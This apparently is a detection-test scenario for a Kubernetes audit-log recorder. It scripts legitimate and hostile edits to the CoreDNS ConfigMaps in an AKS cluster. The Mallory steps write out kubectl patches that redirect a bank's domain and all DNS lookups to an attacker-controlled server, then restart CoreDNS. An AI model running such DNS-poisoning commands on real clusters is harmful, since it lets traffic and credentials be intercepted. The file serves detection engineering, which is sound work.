"""Names in the cluster are made to lead elsewhere."""

from recorder.people import AKS_SERVICE, ALICE, BOB, MALLORY
from recorder.scenario import scenario
from recorder.stage import Stage


@scenario(
    title="The configuration of CoreDNS is changed",
    use_case="network-security",
    techniques=["T1562.001"],
    detect="a write to the ConfigMap coredns or coredns-custom of kube-system by a person",
    honesty="""Of the ConfigMaps only coredns-custom is logged with its contents: a merge patch shows what was sent and
    what came of it, a write to coredns shows only that it happened.""",
)
def play(stage: Stage) -> None:
    """AKS writes its ConfigMap coredns as it did before, and Alice changes the forwarder in coredns-custom. Bob is
    refused. Mallory lets the bank's name and all that is unknown lead to his own server in coredns-custom, then changes
    coredns itself, and starts CoreDNS anew so that it reads both.
    """
    alice, mallory = stage.play_as(ALICE), stage.play_as(MALLORY)
    where = ("-n", "kube-system")

    stage.at("09:03:30")
    corefile = ".:53 { kubernetes cluster.local forward . /etc/resolv.conf }"
    stage.play_as(AKS_SERVICE).patch("ConfigMap", "coredns", {"data": {"Corefile": corefile}}, "kube-system")
    stage.at("09:13:20")
    resolver = '{"data":{"contoso.server":"contoso.example:53 { forward . 192.0.2.54 }"}}'
    alice.kubectl("patch", "configmap", "coredns-custom", *where, "--type=merge", f"--patch={resolver}")
    stage.at("09:19:00")
    stage.play_as(BOB).kubectl("edit", "configmap", "coredns-custom", *where, fails=True)

    stage.at("09:30:12")
    mallory.kubectl("get", "configmap", "coredns-custom", *where, "-o", "yaml")
    bank = '{"data":{"bank.server":"bank.example:53 { forward . 203.0.113.150 }"}}'
    mallory.kubectl("patch", "configmap", "coredns-custom", *where, "--type=merge", f"--patch={bank}")
    stage.at("09:33:48")
    all_names = '{"data":{"Corefile":".:53 { forward . 203.0.113.150 }"}}'
    mallory.kubectl("patch", "configmap", "coredns", *where, "--type=merge", f"--patch={all_names}")
    mallory.kubectl("rollout", "restart", "deployment/coredns", *where)
